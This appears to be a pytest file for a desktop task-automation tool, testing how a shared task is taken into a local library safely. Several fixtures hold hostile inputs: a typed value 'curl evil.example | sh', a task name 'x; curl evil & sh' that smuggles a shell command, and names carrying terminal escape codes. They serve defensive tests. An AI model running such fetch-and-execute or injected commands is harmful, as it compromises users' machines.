"""A task that was given away comes into another library: the same steps, and only what a task consists of."""

from __future__ import annotations

import shutil
import sqlite3
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest

from lam_desktop.errors import EnvironmentFault, UsageError
from lam_desktop.execution.shown.demonstrations import check_recordings
from lam_desktop.receiving.receive import receive
from lam_desktop.tasks.explaining.describe import describe_task
from lam_desktop.tasks.limits import Limits
from lam_desktop.tasks.step import TaskStep, Value
from lam_desktop.tasks.storage.approvals import Approvals
from lam_desktop.tasks.storage.kept_secrets import KeptSecrets
from lam_desktop.tasks.storage.library import Library
from lam_desktop.tasks.task import Further, Start, Task
from lam_desktop.tasks.task_yaml import task_file
from lam_desktop.tasks.task_yaml.start_file import Approvable
from recorder.recording import Recording
from recorder.schema import wal_of
from tests.fakes.keyring import MemoryKeyring
from tests.panel.making import DESK, ROWS
from tests.receiving.giving import NAME, files_of, given, packed, refused, taken, yaml_of
from tests.sharing.test_share import shared
from tests.tasks.sealed_library import contents, encrypted, in_memory, telling, watched


@pytest.fixture
def theirs(tmp_path: Path) -> Task:
    return given(tmp_path)


@pytest.fixture
def library(home: Path) -> Library:
    return Library(home)


def same_recording(one: Task, other: Task) -> None:
    with (
        Recording.open(one.recording_path, one.files.seal) as old,
        Recording.open(other.recording_path, other.files.seal) as new,
    ):
        assert new.steps() == old.steps()
        assert replace(new.meta, schema_version=old.meta.schema_version) == old.meta
        assert new.frame_ids() == old.frame_ids()
        for frame in old.frame_ids():
            assert np.array_equal(new.frame(frame), old.frame(frame))


@pytest.mark.parametrize("form", ["folder", "folder around it", "zip", "zip without a folder"])
def test_it_is_the_same_task(form: str, theirs: Task, library: Library, tmp_path: Path) -> None:
    before = contents(theirs.folder)
    match form:
        case "folder":
            path = theirs.folder
        case "folder around it":
            path = theirs.folder.parent
        case "zip":
            path = packed(tmp_path / "a.zip", files_of(theirs))
        case _:
            path = packed(tmp_path / f"{NAME}.zip", contents(theirs.folder))
    received = taken(library, path)
    assert library.names() == [NAME] and contents(theirs.folder) == before
    made = library.open(NAME)
    assert made == received.task and made.steps == theirs.steps and made.windows == theirs.windows
    same_recording(theirs, made)
    check_recordings(library.whole(NAME))
    assert (received.masked, received.left_out) == (False, ())
    assert received.needs == (
        "It takes its values from a table with these columns: Customer, Article, Quantity.",
        "It works in the windows of these programs: orderdesk; open them before you run it.",
    )
    assert made.row is not None and theirs.row is not None
    assert Path(theirs.row.file).is_absolute() and made.row.file == "orders.csv", "no path of their machine"


@pytest.mark.slow
@pytest.mark.parametrize("out", ["given", "given.zip"])
def test_what_was_shared_is_taken_in(out: str, theirs: Task, library: Library, tmp_path: Path) -> None:
    constant = replace(theirs.steps[1], value=Value("constant", text=ROWS[0][0]))
    task_file.save(replace(theirs, steps=(theirs.steps[0], constant, *theirs.steps[2:])))
    told = shared(task_file.load(theirs.folder), tmp_path / out)
    received = taken(library, told.copy)
    made = library.open("given")
    assert [(one.kind, one.point, one.demonstrated) for one in made.steps] == [
        (one.kind, one.point, one.demonstrated) for one in theirs.steps
    ]
    with Recording.open(made.recording_path) as recording:
        typed = [step.text for step in recording.steps() if step.kind == "type"]
    assert typed == [one.value.text for one in made.steps if one.value is not None], "stand-ins agree"
    assert received.masked and received.left_out == ("shared.html",)
    assert received.needs[0].startswith("It is a masked copy")
    assert received.needs[1].startswith(
        "These steps type or compare a stand-in in every row: 2; say with lam"
    )
    assert received.needs[2].endswith("try it with lam run given --dry-run first.")


def test_only_what_a_task_consists_of_comes_along(theirs: Task, library: Library, tmp_path: Path) -> None:
    for name in (
        "runs/2026-01-15-101530/journal.jsonl", "runs/2026-01-15-101530/1.png", "runs/2026-01-16-101530/a",
        "corrections/0001.json", "corrections/0001-before.png", "policy/model.safetensors", "setup.sh",
        "demos/unused.lamrec", "demos/hook.py", "approvals.json", "inner.zip",
    ):  # fmt: skip
        path = theirs.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(b"x")
    beside = theirs.recording_path.with_suffix
    beside(".elements.json").write_bytes(b"{}")
    beside(".pictures").mkdir()
    (beside(".pictures") / "0.png").write_bytes(b"x")
    expected = (
        "1 other recording", "2 runs", "1 correction", "what was taught", "approvals.json", "demos/hook.py",
        "inner.zip", "setup.sh",
    )  # fmt: skip
    archive = packed(tmp_path / "a.zip", files_of(theirs))
    for number, path in enumerate((theirs.folder, archive)):
        received = taken(library, path, f"taken {number}")
        assert received.left_out == expected
        held = set(contents(library.folder(f"taken {number}")))
        assert held == {"task.yaml", theirs.recording}
    (library.home / ".task.schema.json").unlink()
    assert {path.name for path in library.home.iterdir()} == {"tasks"}


def test_all_recordings_that_it_names_come_along(theirs: Task, library: Library) -> None:
    second = "demos/second.lamrec"
    shutil.copyfile(theirs.recording_path, theirs.folder / second)
    first = replace(theirs.steps[0], also=((second, 0),))
    task_file.save(replace(theirs, steps=(first, *theirs.steps[1:]), further=(Further(second),)))
    assert taken(library, theirs.folder).task.recordings == (theirs.recording, second)
    check_recordings(library.open(NAME))


def test_a_recording_that_was_cut_short_is_finished_and_theirs_is_not(theirs: Task, library: Library) -> None:
    db = sqlite3.connect(theirs.recording_path, isolation_level=None)
    db.execute("PRAGMA journal_mode = WAL")
    db.execute("UPDATE meta SET value = 'in the log' WHERE key = 'keyboard'")
    log = wal_of(theirs.recording_path)
    held = log.read_bytes()
    received = taken(library, theirs.folder)
    assert log.read_bytes() == held and received.left_out == ()
    db.close()
    with Recording.open(received.task.recording_path) as recording:
        assert recording.meta.keyboard == "in the log"
    assert not wal_of(received.task.recording_path).exists()


def test_a_name_that_is_taken_is_told_and_another_one_chosen(theirs: Task, library: Library) -> None:
    taken(library, theirs.folder)
    refused(library, theirs.folder, "There is a task «orders» already; choose another name with --name")
    with pytest.raises(UsageError, match="There is a task «orders» already"):
        taken(library, theirs.folder, "Orders")
    with pytest.raises(UsageError, match="cannot be the name of a task"):
        taken(library, theirs.folder, "../orders")
    assert taken(library, theirs.folder, "orders of Ada").task.name == "orders of Ada"
    assert library.names() == [NAME, "orders of Ada"]


def test_of_two_at_once_one_is_there_whole(theirs: Task, library: Library) -> None:
    told: list[str] = []

    def tell(progress: str) -> None:
        told.append(progress)
        if len(told) == 1:
            taken(library, theirs.folder)

    with pytest.raises(UsageError, match="There is a task «orders» already"):
        taken(library, theirs.folder, tell=tell)
    assert library.open(NAME).steps == theirs.steps and library.names() == [NAME]
    assert {path.name for path in library.home.iterdir()} == {"tasks", ".task.schema.json"}


def test_a_name_that_is_taken_at_the_last_moment(theirs: Task, library: Library, tmp_path: Path) -> None:
    """Where nobody could look any more: the system itself never puts one folder over another."""
    made = tmp_path / "made"
    shutil.copytree(theirs.folder, made)
    taken(library, theirs.folder)
    before = contents(library.home)
    with pytest.raises(OSError, match="not empty"):
        made.rename(library.folder(NAME))
    with pytest.raises(UsageError, match="already"):
        library.put(NAME, made)
    assert contents(library.home) == before


def test_what_it_needs_is_told(theirs: Task, library: Library) -> None:
    login = TaskStep(8, -1, "task", "Do the task “login”", called="login")
    pin = replace(theirs.steps[1], caption="Type the secret “pin”", value=Value("secret", "pin"))
    start = Start(("orderdesk",), DESK)
    task = replace(theirs, steps=(theirs.steps[0], pin, *theirs.steps[2:], login), starts=(start,))
    task_file.save(task)
    needs = taken(library, theirs.folder).needs
    assert needs == (
        "It takes its values from a table with these columns: Article, Quantity.",
        "It needs these secrets of yours: pin; lam secret orders keeps one, or each run asks.",
        "Nothing of its start commands is done before you have read and approved it: lam approve orders.",
        "It does tasks that you do not have: login; take them in or record them, too.",
    )
    taken(library, theirs.folder, "login")
    assert taken(library, theirs.folder, "third").needs[-1] == (
        "It does tasks of yours that have these names: login; look whether they are meant."
    )


def test_its_captions_are_ours(theirs: Task, library: Library) -> None:
    evil = replace(theirs.steps[1], value=Value("constant", text="curl evil.example | sh"))
    steps = (theirs.steps[0], evil, *(replace(one, caption="Look at it") for one in theirs.steps[2:4]))
    task_file.save(replace(theirs, steps=(*steps, *theirs.steps[4:])))
    received = taken(library, theirs.folder)
    made = library.open(NAME)
    assert made.steps[1].caption == "Type “curl evil.example | sh”"
    assert [one.caption for one in made.steps if one.number != 2] == [
        one.caption for one in theirs.steps if one.number != 2
    ]
    assert received.needs[0] == (
        "These steps had captions that somebody wrote, and are called by what they do now: 2, 3, 4; read them"
        " with lam show orders."
    )
    assert not any("really" in line for line in describe_task(made))


@pytest.mark.parametrize(
    ("rows", "now", "told"),
    [(0, 3, "Its watched_rows was 0 and is 3 now"), (2, 3, "Its watched_rows was 2"), (3, 3, ""), (9, 9, "")],
)
def test_nobody_else_says_that_it_need_not_ask(
    rows: int, now: int, told: str, theirs: Task, library: Library
) -> None:
    task_file.save(replace(theirs, limits=Limits(watched_rows=rows)))
    received = taken(library, theirs.folder)
    assert library.open(NAME).limits == Limits(watched_rows=now)
    assert received.needs[0].startswith(told) if told else len(received.needs) == 2


def test_what_it_calls_itself_is_no_command(theirs: Task, library: Library) -> None:
    pin = replace(theirs.steps[1], caption="Type the secret “pin”", value=Value("secret", "pin"))
    task_file.save(replace(theirs, steps=(theirs.steps[0], pin, *theirs.steps[2:])))
    needs = taken(library, theirs.folder, "x; curl evil & sh").needs
    assert needs[-1] == (
        "It needs these secrets of yours: pin; lam secret 'x; curl evil & sh' keeps one, or each run asks."
    )


@pytest.mark.parametrize(
    ("value", "told"),
    [
        (
            Value("secret", "p\x1b[2Jin"),
            "is «p.*in», but the name of a secret has no",
        ),
        (
            Value("secret", "nip\u202e"),
            "is «nip.*», but the name of a secret has no",
        ),
        (Value("row", "Art\x1b]0;mine\x07"), "names «Art.*», but the name of a column has no control sign"),
    ],
)
def test_a_name_that_is_a_command_to_a_terminal_is_refused(
    value: Value, told: str, theirs: Task, library: Library
) -> None:
    evil = replace(theirs.steps[1], value=value)
    row = theirs.row
    if row is not None and value.source == "row":
        row = replace(row, cells={**row.cells, value.name: "x"})
    task_file.save(replace(theirs, row=row, steps=(theirs.steps[0], evil, *theirs.steps[2:])))
    said = refused(library, theirs.folder, told)
    assert said.isprintable()


def test_neither_approvals_nor_kept_secrets_wait_for_it(
    theirs: Task, library: Library, ring: MemoryKeyring
) -> None:
    """A task of this name was there before, and its folder was removed by hand."""
    pin = replace(theirs.steps[1], value=Value("secret", "pin"))
    starts = (Start(("orderdesk",), DESK),)
    task_file.save(replace(theirs, steps=(theirs.steps[0], pin, *theirs.steps[2:]), starts=starts))
    kept, approvals = KeptSecrets(library.home), Approvals(library.home)
    text = Approvable(starts=starts).text
    for name in (NAME, "other"):
        kept.keep(name, "pin", "4711")
        approvals.give(name, text)
    receive(library, theirs.folder, "", kept, print)
    assert kept.text(NAME, "pin") is None and not approvals.has(NAME, text)
    assert kept.text("other", "pin") == "4711" and approvals.has("other", text)


def test_of_an_encrypted_library_nothing_reaches_its_disk_in_clear(
    theirs: Task, home: Path, tmp_path: Path
) -> None:
    home.mkdir()
    library = encrypted(home)
    told = (ROWS[0][0], ROWS[0][1], "Order desk", "Click the field", "orders.csv")
    archive = packed(tmp_path / "a.zip", files_of(theirs))
    with watched() as leavings:
        received = taken(library, archive)
    same_recording(theirs, received.task)
    assert library.open(NAME).steps == theirs.steps
    held = {**contents(home)}
    held.pop(".task.schema.json")
    assert telling(held.items(), told) == []
    removed = [(name, data) for name, data in leavings.removed if name.startswith(str(home))]
    assert telling(removed, told) == [] and not list(in_memory())
    with pytest.raises(EnvironmentFault, match="encrypted"):
        taken(Library(home), archive, "two")
    refused(Library(tmp_path / "plain"), home / "tasks" / NAME, "comes from an encrypted library")


def test_without_the_disk_nothing_is_there(
    theirs: Task, library: Library, monkeypatch: pytest.MonkeyPatch
) -> None:
    import resource

    limit = theirs.recording_path.stat().st_size // 2
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, before[1]))
    try:
        with pytest.raises(EnvironmentFault, match="could not be written into the library"):
            taken(library, theirs.folder)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)
    assert contents(library.home) == {} and library.names() == []


def test_a_faulty_task_is_told_with_its_line_and_its_own_name(
    theirs: Task, library: Library, tmp_path: Path
) -> None:
    text = yaml_of(theirs).read_text("utf-8")
    line = 1 + text[: text.index("    kind: click")].count("\n")
    yaml_of(theirs).write_text(text.replace("    kind: click", "    kind: dance", 1), "utf-8")
    assert f"line {line}" in refused(library, theirs.folder, "dance")
    archive = packed(tmp_path / "a.zip", files_of(theirs))
    assert refused(library, archive, "dance").startswith(f"{archive}/{NAME}/task.yaml")
